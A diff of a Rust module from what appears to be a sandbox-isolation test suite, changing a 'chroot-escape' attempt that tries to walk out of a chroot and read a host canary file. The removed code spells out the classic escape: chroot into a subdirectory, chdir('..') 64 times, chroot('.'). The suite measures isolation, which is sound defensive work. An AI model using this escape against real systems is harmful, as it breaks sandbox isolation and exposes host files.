@@ -1,13 +1,10 @@
 //! chroot-escape: walk out of a chroot.
 
 use super::{Attack, Attempt, Measured};
-use crate::inside::canary::canary;
-use crate::{Host, Inside, Seen};
-use nix::errno::Errno;
-use nix::fcntl::AT_FDCWD;
+use crate::attacker::Failed;
+use crate::refusals::Refusal;
+use crate::{Attacker, Host, Seen};
 use nix::libc;
-use nix::unistd::{chdir, chroot};
-use std::{fs, path::Path};
 
 /// The attempt.
 pub const ATTEMPT: Attempt = Attempt {
@@ -28,32 +25,31 @@ pub const ATTEMPT: Attempt = Attempt {
     man: &["chroot(2)", "pivot_root(2)"],
     letters: Measured { root: "E EEEBBBB", user: "E EEEBBBB", rootless: "E EEEBBBB" },
     needs: &[],
-    decisive: &[libc::SYS_chroot, libc::SYS_openat, libc::SYS_pread64],
-    attack: Attack::Inside(inside),
+    decisive: &[libc::SYS_chroot, libc::SYS_openat, libc::SYS_openat2, libc::SYS_pread64],
+    attack: Attack::ByHand(attack, Refusal::Root),
     witness,
 };
 
-fn inside(me: &mut Inside) -> Result<(), Errno> {
+fn attack(me: &mut Attacker) -> Result<(), Failed> {
+    let (above, root) = me.root()?;
     // Any directory but the root will do; one that is there already leaves no trace.
-    let below = ["/dev", "/etc", "/tmp", "/usr"].into_iter().find(|place| Path::new(place).is_dir());
-    let below = below.unwrap_or_else(|| {
-        let _ = fs::create_dir("/x");
-        "/x"
-    });
-    chdir("/")?;
-    me.decisive(&format!("chroot(\"{below}\"), chdir(\"..\") 64 times, chroot(\".\"), open(\"canary\")"));
-    chroot(below)?;
-    for _ in 0..64 {
-        chdir("..")?;
+    let mut below = None;
+    for place in ["/dev", "/etc", "/tmp", "/usr"] {
+        if below.is_none() && me.is_elsewhere(place, root)? {
+            below = Some(place.to_owned());
+        }
     }
-    chroot(".")?;
-    let found = canary(AT_FDCWD, &[""])?;
-    me.bring_out(&found);
-    Ok(())
+    let below = below.map_or_else(|| me.directory(), Ok)?;
+    if !me.is_elsewhere(&below, root)? {
+        return me.gives_up("there is no directory below its root");
+    }
+    me.chroot(&below)?;
+    // The descriptor of what was its root is outside of what is its root now.
+    me.take_canary_above(above, root)
 }
 
 fn witness(host: &Host) -> Seen {
-    if host.heard_secret("canary") {
+    if host.took("canary") {
         return Seen::Effect("the attacker walked out of its root and has read a file of the host".into());
     }
     Seen::Nothing
